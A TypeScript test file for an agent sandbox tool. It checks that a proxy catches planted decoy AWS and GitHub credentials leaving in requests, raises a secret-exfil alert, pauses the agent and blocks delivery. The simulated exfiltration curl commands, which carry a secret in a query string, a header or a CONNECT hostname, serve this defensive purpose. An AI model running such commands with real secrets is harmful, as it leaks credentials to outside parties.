import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { paddock, paddockAsync, tempDir, waitFor } from '../helpers/cli.js';

// Issue 18: a decoy value seen by the proxy raises secret-exfil and the request is refused (loopback only).
const tmp = tempDir('paddock-decoy-exfil-');
let server: Server;
const received: string[] = [];
const port = (): number => (server.address() as AddressInfo).port;

beforeAll(async () => {
  server = createServer((req, res) => {
    received.push(`${req.url ?? ''} ${JSON.stringify(req.headers)}`);
    res.end('hello\n');
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
});
afterAll(() => {
  server.close();
  tmp.cleanup();
});

function events(dataDir: string, agent: string): Record<string, unknown>[] {
  const r = paddock(['--data-dir', dataDir, 'events', '--agent', agent, '--json', '--limit', '10000']);
  return r.stdout.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
}

describe('decoy values through the proxy', () => {
  const dataDir = join(tmp.dir, 'exfil');
  const file = join(tmp.dir, 'exfil.yaml');
  const profile = (cmd: string): void =>
    writeFileSync(file, `name: leaker\nnetwork: on\nrules: |\n  allow net 127.0.0.1:${port()}\ncommand: [sh, -c, ${JSON.stringify(cmd)}]\n`);
  const c = 'env -u NO_PROXY -u no_proxy curl -sS -o /dev/null -w "%{http_code}\\n"';
  const u = (): string => `http://127.0.0.1:${port()}`;
  let values: Record<string, string[]> = {};

  beforeAll(async () => {
    // The first start places the decoys; the host reads their values from the manifest (the agent never opens a decoy here).
    profile(`${c} ${u()}/plain`);
    // Async: the loopback server lives in this process (a synchronous spawn would block it).
    const run = paddockAsync(['--data-dir', dataDir, 'run', file]);
    expect(await run.exit).toBe(0);
    // Positive control: a request without a decoy value goes through, and no alert.
    expect(run.out()).toBe('200\n');
    expect(received.some((x) => x.startsWith('/plain '))).toBe(true);
    expect(events(dataDir, 'leaker').filter((e) => e.kind === 'alert')).toEqual([]);
    const manifest = JSON.parse(readFileSync(join(dataDir, 'agents', 'leaker', 'decoys.json'), 'utf8')) as { decoys: { kind: string; values: string[] }[] };
    values = Object.fromEntries(manifest.decoys.map((d) => [d.kind, d.values]));
  });

  /** Runs `cmd`, waits for a decoy secret-exfil alert after the events seen so far, checks the pause, kills. */
  async function exfil(cmd: string, via: string): Promise<void> {
    const before = events(dataDir, 'leaker').length;
    profile(cmd);
    const run = paddockAsync(['--data-dir', dataDir, 'run', file]);
    try {
      const alert = await waitFor(() => events(dataDir, 'leaker').slice(before).find((e) => e.kind === 'alert' && e.type === 'secret-exfil'), 20_000);
      expect(alert.reason).toBe('decoy');
      expect(alert.via).toBe(via);
      await waitFor(() => events(dataDir, 'leaker').slice(before).some((e) => e.kind === 'agent.pause'), 10_000);
      expect(events(dataDir, 'leaker').slice(before).some((e) => e.kind === 'net.deny' && e.reason === 'the request carries a decoy credential')).toBe(true);
      paddock(['--data-dir', dataDir, 'kill', 'leaker']);
      await run.exit;
    } finally {
      run.child.kill('SIGKILL');
    }
  }

  it('in a plain-HTTP URL query string: secret-exfil, paused, never delivered', async () => {
    const akid = values['aws-credentials']![0]!;
    await exfil(`${c} '${u()}/?k=${akid}'; sleep 30`, 'http');
    expect(received.some((x) => x.includes(akid))).toBe(false);
  });

  it('percent-encoded in a plain-HTTP header: secret-exfil, never delivered', async () => {
    const secret = values['aws-credentials']![1]!;
    await exfil(`${c} -H 'X-Token: ${encodeURIComponent(secret)}' ${u()}/h; sleep 30`, 'http');
    expect(received.some((x) => x.startsWith('/h '))).toBe(false);
  });

  it('in a CONNECT target name: secret-exfil before any lookup', async () => {
    const ghp = values['git-credentials']![0]!;
    await exfil(`${c} --max-time 10 https://${ghp.toLowerCase()}.invalid/; sleep 30`, 'connect');
  });
});
